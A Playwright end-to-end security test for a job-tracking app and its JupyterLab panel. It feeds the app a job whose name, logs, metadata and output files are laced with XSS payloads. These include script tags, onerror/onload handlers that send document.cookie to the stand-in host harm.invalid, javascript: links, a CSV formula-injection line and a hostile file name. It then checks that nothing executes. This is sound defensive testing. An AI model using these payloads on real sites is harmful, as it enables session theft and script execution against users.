/** A job that wants to do harm to whoever looks at it: its name, what it prints and what it leaves hold scripts, in every page that shows them. */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { BrowserContext, Frame, Locator, Page } from "@playwright/test";
import { createWorkspace, expectRunning, freeName, openLab, PROJECT } from "../app.ts";
import { binary, serverUrl } from "../env.ts";
import { expect, test } from "../fixtures.ts";
import { Lab } from "../lab.ts";

test.describe.configure({ mode: "serial" });

/** What every attack does: leaves a mark, and tells a host of its own. */
const ACT = "globalThis.__harm=1;fetch('http://harm.invalid/'+document.cookie)";
const TAG = `<img src=x onerror="${ACT}"><svg onload="${ACT}"></svg><script>${ACT}</script>`;
const LINK = `javascript:${ACT}`;
const CLOSING = `"'></textarea></title></style></script><script>${ACT}</script>`;

const output = (data: Record<string, unknown>) => ({
  output_type: "display_data",
  metadata: {},
  data,
});
const code = (id: string, outputs: unknown[]) => ({
  cell_type: "code",
  id,
  metadata: {},
  source: `print(${JSON.stringify(TAG)})`,
  execution_count: 1,
  outputs,
});

const NOTEBOOK = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { kernelspec: { name: TAG, display_name: CLOSING, language: CLOSING } },
  cells: [
    {
      cell_type: "markdown",
      id: "words",
      metadata: {},
      source: `# ${TAG}\n\n[link](${LINK}) ![image](${LINK}) <a href="${LINK}">x</a> <iframe src="${LINK}"></iframe>`,
    },
    code("html", [
      output({ "text/html": `${TAG}<form action="http://harm.invalid/"><button>x</button></form>` }),
    ]),
    code("svg", [
      output({
        "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${ACT}"/>`,
        "text/plain": "mark-svg",
      }),
    ]),
    code("script", [output({ "application/javascript": ACT, "text/plain": CLOSING })]),
    code("png", [
      output({ "image/png": `"><script>${ACT}</script>`, "text/latex": TAG, "text/markdown": TAG }),
    ]),
    code("error", [
      {
        output_type: "error",
        ename: TAG,
        evalue: CLOSING,
        traceback: [`\u001b[31m${TAG}\u001b[0m`, CLOSING],
      },
    ]),
    code("stream", [
      {
        output_type: "stream",
        name: "stdout",
        text: `\u001b]8;;${LINK}\u0007x\u001b]8;;\u0007${TAG}\nmark-notebook\n`,
      },
    ]),
  ],
});

/** The outputs by path; the page of each is visited. Each has a mark that stands nowhere else, so that one sees when it is shown. */
const FILES: Record<string, { mark: string; content: string }> = {
  "notebook.ipynb": { mark: "mark-notebook", content: NOTEBOOK },
  "page.html": { mark: "mark-page", content: `<html>${TAG}<p>mark-page</p></html>` },
  "picture.svg": {
    mark: "mark-picture",
    content: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${ACT}"><script>${ACT}</script><desc>mark-picture</desc></svg>`,
  },
  "words.md": {
    mark: "mark-words",
    content: `# ${TAG}\n\n[link](${LINK})\n\n<details open ontoggle="${ACT}">x</details>\n\nmark-words\n`,
  },
  "data.json": {
    mark: "mark-data",
    content: `{"__proto__": {"x": ${JSON.stringify(TAG)}}, ${JSON.stringify(TAG)}: ${JSON.stringify(CLOSING)}, "mark-data": 1}`,
  },
  "rows.csv": {
    mark: "mark-rows",
    content: `${TAG.replaceAll('"', "'")},${LINK}\n=cmd|'/c calc'!A1,2\nmark-rows,3\n`,
  },
  "code.py": { mark: "mark-code", content: `print(${JSON.stringify(TAG)})\n# mark-code\n` },
  "<img src=x onerror=globalThis.__harm=1>.txt": { mark: "mark-named", content: `${CLOSING}\nmark-named\n` },
};

const NAME = `harm ${TAG}`.slice(0, 200);
let number = 0;
let told: string[] = [];

/** Everything that only an attack would do. */
function watch(context: BrowserContext): void {
  const own = new URL(serverUrl);
  context.on("request", request => {
    const url = new URL(request.url());
    const isOurs = url.hostname === own.hostname || url.hostname.endsWith(`.${own.hostname}`);
    if (/^(https?|wss?):$/.test(url.protocol) && !isOurs) told.push(`request: ${request.url()}`);
  });
  context.on("dialog", dialog => {
    told.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
}

/** Elements in the page that could act if its security policy let them, or that load or send something. A link to the web may be one. */
const armed = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const places = ["href", "xlink:href", "src", "action", "formaction", "data"];
    const isArmed = (element: Element) => {
      const leads = places.map(name => element.getAttribute(name) ?? "");
      return (
        element.getAttributeNames().some(name => name.startsWith("on")) ||
        leads.some(to => /^\s*(javascript|vbscript|data:text)/i.test(to)) ||
        (element.localName !== "a" && leads.some(to => to.includes("harm.invalid"))) ||
        /harm|<script/i.test(element.getAttribute("srcdoc") ?? "") ||
        (element.localName === "script" && /harm/.test(element.textContent ?? ""))
      );
    };
    return [...document.querySelectorAll("*")].filter(isArmed).map(element => element.outerHTML);
  });

/** Whether an attack left its mark in a frame; null where it cannot be asked. */
const isMarked = (frame: Frame): Promise<boolean | null> =>
  frame.evaluate(() => "__harm" in globalThis).catch(() => null);

async function expectNoHarm(page: Page): Promise<void> {
  expect(await armed(page), `attacks in ${page.url()}`).toEqual([]);
  const frames = await Promise.all(
    page.frames().map(async frame => ({ url: frame.url(), marked: await isMarked(frame) })),
  );
  expect(
    frames.filter(each => each.marked === true),
    "frames in which a script ran",
  ).toEqual([]);
  const unasked = frames.filter(each => each.marked === null && each.url !== "about:blank");
  expect(unasked, "frames that could not be asked").toEqual([]);
  expect(told).toEqual([]);
}

/** How wide a picture is that has loaded. */
const width = (picture: Locator): Promise<number> =>
  picture.evaluate(async image => {
    await (image as HTMLImageElement).decode();
    return (image as HTMLImageElement).naturalWidth;
  });

/** Runs the program as whoever is signed in. */
async function submit(page: Page, folder: string): Promise<number> {
  const made = await page.request.post("/api/v1/tokens", {
    data: { name: `hostile ${Date.now()}` },
    headers: { origin: serverUrl },
  });
  const { token } = (await made.json()) as { token: string };
  const metadata = JSON.stringify({
    [TAG]: 1,
    step: 1,
    [CLOSING]: TAG,
    [`mark-chart ${LINK}`]: 1,
    word: `mark-metadata ${TAG}`,
  });
  const script = `cat "$CAIRN_REPOSITORY/metadata.txt"; cp -r "$CAIRN_REPOSITORY/files/." "$CAIRN_OUTPUTS/"`;
  writeFileSync(
    join(folder, "metadata.txt"),
    `${metadata}\n${TAG}\n\u001b]0;${CLOSING}\u0007\u001b[31m${TAG}\u001b[0m\nmark-log\n`,
  );
  const words = ["run", "--json", "--wait", "--project", PROJECT, "--name", NAME, "--tag", TAG.slice(0, 60)];
  const ran = spawnSync(binary ?? "", [...words, "--param", `evil=${CLOSING}`, "--", "sh", "-c", script], {
    cwd: folder,
    env: {
      ...process.env,
      CAIRN_HOME: join(folder, ".home"),
      CAIRN_API_URL: serverUrl,
      CAIRN_TOKEN: token,
    },
    encoding: "utf8",
  });
  expect(ran.status, ran.stderr).toBe(0);
  return (JSON.parse(ran.stdout) as { number: number }).number;
}

test.beforeEach(({ context }) => {
  told = [];
  watch(context);
});

/**
 * Chromium says so of handlers in a document that DOMParser made, which has no scripts at all (those in the page are looked for by themselves),
 * and of the test's own question to a page that may run none.
 */
const HARMLESS = /^Executing inline event handler violates|^Blocked script execution in/;

/** And of what the scripts of an output try in a page that has an origin of its own and no network. */
const REFUSED = /Content Security Policy|document is sandboxed/;

const forget = (errors: string[], those: RegExp) =>
  errors.splice(0, errors.length, ...errors.filter(each => !those.test(each)));

test.afterEach(({ appErrors }) => void forget(appErrors, HARMLESS));

test("nothing of a hostile job runs in the pages of the app", async ({ page }) => {
  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
  test.setTimeout(300_000);
  const folder = mkdtempSync(join(tmpdir(), "cairn-e2e-hostile-"));
  for (const [path, { content }] of Object.entries(FILES)) {
    const file = join(folder, "files", path);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
  number = await submit(page, folder);
  rmSync(folder, { recursive: true });
  const base = `/p/${PROJECT}/jobs`;
  const main = page.getByRole("main");
  const visit = async (place: string, ...shown: Locator[]) => {
    await page.goto(place);
    for (const each of shown) await expect(each.first(), `shown in ${place}`).toBeVisible();
    await expect(page.getByText("Loading", { exact: true })).toHaveCount(0);
    await page.mouse.move(300, 400);
    await expectNoHarm(page);
  };
  await visit("/", main.getByText("harm"));
  await visit(base, main.getByText("harm"));
  await visit(`${base}/${number}`, main.getByText("mark-metadata"));
  await visit(`${base}/${number}/log`, main.getByText("mark-log", { exact: true }));
  await visit(`${base}/${number}/charts`, main.getByRole("img", { name: /^mark-chart .*points from/ }));
  for (const [path, { mark }] of Object.entries(FILES)) {
    const shown = path.endsWith(".ipynb")
      ? [main.getByText(mark), main.getByAltText("mark-svg")]
      : [main.getByText(mark)];
    for (const place of [
      `outputs?path=${encodeURIComponent(path)}`,
      `code?path=${encodeURIComponent(`files/${path}`)}`,
    ]) {
      await visit(`${base}/${number}/${place}`, ...shown);
      if (path.endsWith(".ipynb")) expect(await width(main.getByAltText("mark-svg"))).toBe(9);
    }
  }
});

test("nothing of its files runs when one is opened by itself", async ({ page }) => {
  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
  await page.goto("/");
  for (const [path, { mark }] of Object.entries(FILES)) {
    const url = `/api/v1/projects/${PROJECT}/jobs/${number}/outputs/content?path=${encodeURIComponent(path)}`;
    const answer = await page.request.get(url);
    expect(await answer.text()).toContain(mark);
    expect(answer.headers()["content-security-policy"]).toBe("sandbox; default-src 'none'");
    // What is no picture comes as a download, which is no page.
    const opened = await page.goto(url).catch((error: unknown) => String(error));
    if (typeof opened === "string") expect(opened).toMatch(/Download is starting|ERR_ABORTED/);
    await expectNoHarm(page);
  }
});

test("its notebook as a page has an origin of its own, and no network", async ({ page, appErrors }) => {
  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
  await page.goto(`/p/${PROJECT}/jobs/${number}/outputs?path=notebook.ipynb`);
  const [opened] = await Promise.all([
    page.waitForEvent("popup"),
    page.getByRole("link", { name: "Open as page" }).click(),
  ]);
  await opened.waitForLoadState();
  const policy = (await page.request.get(opened.url())).headers()["content-security-policy"];
  expect(policy).toMatch(/^sandbox allow-scripts; default-src 'none';/);
  await expect(opened.getByRole("main")).toContainText("mark-notebook");
  const own = await opened.evaluate(() => {
    const read = (what: () => unknown) => {
      try {
        return String(what());
      } catch {
        return "refused";
      }
    };
    return [self.origin, read(() => document.cookie), read(() => localStorage.length), read(() => opener)];
  });
  expect(own).toEqual(["null", "refused", "refused", "null"]);
  expect(told).toEqual([]);
  await opened.setViewportSize({ width: 390, height: 844 });
  const overflow = await opened.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow).toBeLessThanOrEqual(0);
  forget(appErrors, REFUSED);
});

test("nothing of it runs in the panel in JupyterLab", async ({ page }) => {
  test.skip(!binary, "CAIRN_E2E_BINARY names no program");
  test.setTimeout(480_000);
  await createWorkspace(page, await freeName(page, "hostile"));
  await expectRunning(page);
  const tab = await openLab(page);
  await new Lab(tab).ready();
  await tab.locator('.jp-SideBar [data-id="cairn-panel"]').first().click();
  const job = tab.getByRole("region", { name: "Cairn" }).locator(`.cairn-Job[data-number="${number}"]`);
  await job.getByRole("button", { expanded: false }).click();
  await expect(job.getByRole("log")).toContainText("mark-log");
  await expect(job.locator(".cairn-Charts")).toContainText("mark-chart");
  await expectNoHarm(tab);
});
